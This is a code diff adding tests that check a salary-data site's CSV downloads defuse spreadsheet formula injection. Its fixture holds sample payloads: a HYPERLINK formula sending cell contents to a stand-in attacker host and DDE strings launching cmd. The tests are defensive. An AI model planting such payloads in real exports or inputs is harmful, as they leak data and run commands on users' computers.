@@ -197,3 +197,66 @@ def test_downloads_are_served_from_the_page_cache_until_the_content_changes(clie
     band.max_eur = 3600
     band.save()
     assert b"3600" in client.get("/daten/gehaltsspannen.csv").content
+
+
+# What a spreadsheet would run if a cell began with it (OWASP "CSV injection").
+FORMULA_OCCUPATION = '=HYPERLINK("https://angreifer.example/?d="&A1;"Mehr")'
+FORMULA_CITY = "+cmd|' /C calc'!A0"
+FORMULA_NOTE = "-2+3+cmd|' /C calc'!A0"
+FORMULA_SOURCE = "@SUMME(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def formula_content(db):
+    """Two published profiles whose texts are spreadsheet formulas; the second city's
+    bands are lower, so its difference to the first is negative."""
+    occupation = make_occupation(FORMULA_OCCUPATION)
+    first = make_profile(
+        occupation=occupation, region=make_region(FORMULA_CITY), bands=[("entry", 3000, 3400)]
+    )
+    first.salary_bands.update(note=FORMULA_NOTE)
+    first.sources.create(title=FORMULA_SOURCE)
+    second = make_profile(
+        occupation=occupation, region=make_region("\tEssen"), bands=[("entry", 2800, 3000)]
+    )
+    second.sources.create(title="\r=1+1")
+    return first, second
+
+
+def assert_no_formula_cells(rows):
+    """Text cells may not start like a formula; a number (e.g. -300) is no text cell."""
+    for row in rows:
+        for cell in row:
+            if cell.lstrip("-").isdigit():
+                continue
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_salary_csv_neutralises_formulas(client, formula_content):
+    header, *rows = csv_rows(client.get("/daten/gehaltsspannen.csv"))
+    assert_no_formula_cells(rows)
+    by_city = {row[header.index("Stadt")]: row for row in rows}
+    assert set(by_city) == {"'" + FORMULA_CITY, "'\tEssen"}
+    row = by_city["'" + FORMULA_CITY]
+    assert row[header.index("Beruf")] == "'" + FORMULA_OCCUPATION
+    assert row[header.index("Anmerkung")] == "'" + FORMULA_NOTE
+    assert row[header.index("Quellen")].startswith("'" + FORMULA_SOURCE)
+    # Figures stay numbers.
+    assert row[header.index("von (EUR brutto/Monat)")] == "3000"
+
+
+def test_comparison_csv_neutralises_formulas_and_keeps_negative_numbers(client, formula_content):
+    first, second = formula_content
+    response = client.get(
+        "/vergleich/csv/",
+        {"beruf": first.occupation.slug, "region": [first.region.slug, second.region.slug]},
+    )
+    assert response.status_code == 200
+    header, *rows = csv_rows(response)
+    assert_no_formula_cells(rows)
+    difference = header.index("Unterschied der Mitte zur ersten Stadt (EUR)")
+    assert [(row[1], row[difference]) for row in rows] == [
+        ("'" + FORMULA_CITY, ""),
+        ("'\tEssen", "-300"),
+    ]
+    assert rows[1][header.index("Quellen")] == "'\r=1+1"
